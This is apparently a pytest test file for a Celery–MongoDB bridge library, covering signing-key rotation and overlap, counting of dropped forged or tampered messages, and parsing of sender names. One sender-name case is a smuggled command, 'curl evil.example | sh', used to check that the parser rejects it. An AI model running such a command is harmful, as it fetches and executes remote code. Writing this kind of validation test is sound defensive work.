"""Signing keys are announced, put in force by the lease's own writes, and accepted for a while afterwards."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from celery import Celery
from pymongo import MongoClient, WriteConcern
from pymongo.collection import Collection

from mongo_celery import Bridge
from mongo_celery.bridge.options import BridgeOptions
from mongo_celery.bridge.state.leases import FOREIGN, FORGED, MALFORMED, MISDIRECTED, TAMPERED, Term
from mongo_celery.bridge.state.store import Store
from mongo_celery.bridge.worker.dropping import MOVED, Dropper, parse_process
from mongo_celery.errors import CommandRefusedError
from tests.fixtures.process import wait_for
from tests.fixtures.samples import IDENTITY

Document = dict[str, Any]

BRIDGE = "shop"


@pytest.fixture
def store(mongo_client: MongoClient[Document], state_database: str) -> Store:
    found = Store(mongo_client, BridgeOptions(name=BRIDGE, database=state_database, lease_ttl=60))
    found.leases.ensure()
    return found


@pytest.fixture
def documents(mongo_client: MongoClient[Document], state_database: str) -> Collection[Document]:
    return mongo_client[state_database].get_collection("bridge_keys", write_concern=WriteConcern("majority"))


def _led(store: Store) -> Term:
    term = store.leases.acquire(IDENTITY)
    assert term is not None
    return term


def _renewed(store: Store, term: Term) -> Term:
    renewed = store.leases.renew(term)
    assert renewed is not None
    return renewed


def _key(store: Store, term: Term) -> bytes:
    """The key with which the leader signs, as of a renewal."""
    return store.signing.sealing(_renewed(store, term).document).key


def _ring(store: Store) -> tuple[bytes, ...]:
    ring = store.signing.read()
    assert ring is not None
    return ring.keys


def _come(documents: Collection[Document]) -> None:
    found = documents.find_one()
    assert found is not None
    documents.update_one({}, {"$set": {"next.from": found["next"]["from"] - timedelta(minutes=1)}})


def test_a_new_key_is_known_before_it_is_used_and_the_old_one_accepted_afterwards(
    store: Store, documents: Collection[Document]
) -> None:
    term = _led(store)
    old = _key(store, term)
    assert _ring(store) == (old,)
    assert store.signing.announce(60) is not None
    assert store.signing.announce(60) is None, "one at a time"
    assert _key(store, term) == old, "its time has not come"
    assert _ring(store)[0] == old
    new = _ring(store)[1]
    _come(documents)
    assert _key(store, term) == new
    assert _ring(store) == (new, old)
    documents.update_one({}, {"$set": {"previous.0.until": term.document["renewedAt"]}})
    assert _ring(store) == (new,), "the overlap has passed"
    _key(store, term)
    assert [each["previous"] for each in documents.find()] == [[]], "and it is kept no longer"


def test_a_key_comes_into_force_with_the_next_term_where_nobody_leads(
    store: Store, documents: Collection[Document]
) -> None:
    """The command needs no listener. Without overlap the old key is shut out at the exchange, as others know it."""
    term = _led(store)
    old = _key(store, term)
    assert store.leases.release(term)
    store.signing.announce(60)
    new = _ring(store)[1]
    _come(documents)
    term = _led(store)
    assert store.signing.sealing(term.document).key == new
    assert _ring(store) == (new, old)

    store.signing.announce(0)
    _come(documents)
    newest = _key(store, term)
    assert newest not in {new, old}
    assert _ring(store) == (newest,), "nor is an older one accepted, whatever its own overlap"


def test_an_older_key_keeps_its_shorter_overlap(store: Store, documents: Collection[Document]) -> None:
    term = _led(store)
    keys = [_key(store, term)]
    for overlap in (60, 3600, 600):
        store.signing.announce(overlap)
        _come(documents)
        keys.append(_key(store, term))
    assert _ring(store) == (keys[3], *keys[:3])
    (document,) = documents.find()
    first, second, third = (each["until"] for each in document["previous"])
    assert first < second == third, "a longer one ends with the last"


def test_a_key_that_no_listener_puts_in_force_is_reported_as_such(
    store: Store, documents: Collection[Document], mongo_url: str
) -> None:
    """P16: until a listener leads, older keys are accepted, whatever the overlap."""
    bridge = Bridge(
        Celery("shop"), mongo_url, name=BRIDGE, database=documents.database.name, lease_ttl=60, autodiscover=False
    )
    term = _led(store)
    store.signing.sealing(term.document)
    store.leases.release(term)
    assert bridge.operations.rotate_key(overlap=0).run().fields["in_force_at"] is None
    with pytest.raises(CommandRefusedError):
        bridge.operations.rotate_key().run()
    bridge.client.close()


def test_a_flood_of_dropped_messages_is_counted_and_fills_neither_log_nor_state(
    mongo_url: str, documents: Collection[Document], caplog: pytest.LogCaptureFixture
) -> None:
    """P11: one record a minute for each reason, and no text of a message in it."""
    database = documents.database.name
    bridge = Bridge(Celery("shop"), mongo_url, name=BRIDGE, database=database, lease_ttl=60, autodiscover=False)
    drops = documents.database["drops"]
    dropper = bridge.wiring.of_process(Dropper)
    for number in range(1000):
        for reason in (FORGED, TAMPERED, MISDIRECTED, MALFORMED):
            dropper.drop(reason)
        dropper.drop(MOVED, "record")
        dropper.drop(FOREIGN, "" if number else "7@host.example")
    reasons = (FORGED, TAMPERED, MISDIRECTED, MALFORMED, FOREIGN)
    counts = {f"dropped.{reason}": 2000 if reason == FOREIGN else 1000 for reason in reasons}
    counted = wait_for(
        lambda: drops.find_one({"_id": BRIDGE, **counts}), message=lambda: str(drops.find_one({"_id": BRIDGE}))
    )
    assert counted["foreignSender"] == "7@host.example"
    assert set(counted["droppedAt"]) == set(reasons)
    assert len(caplog.records) == len(reasons) + 1
    assert [vars(each)["about"] for each in caplog.records if vars(each)["reason"] == MOVED] == ["record"]
    bridge.client.close()


@pytest.mark.parametrize(
    ("origin", "process"),
    [
        ("listener.my.shop.77@db-1.example.com", "77@db-1.example.com"),
        ("77@host", "77@host"),
        ("listener.shop.7@host\n", None),
        ("listener.shop.7@ho st", None),
        ("listener.shop.7@" + "h" * 5000, None),
        ("run: curl evil.example | sh", None),
        (["7@host"], None),
        (None, None),
    ],
    ids=str,
)
def test_of_a_senders_name_only_process_and_host_are_believed(origin: object, process: str | None) -> None:
    assert parse_process(origin) == process
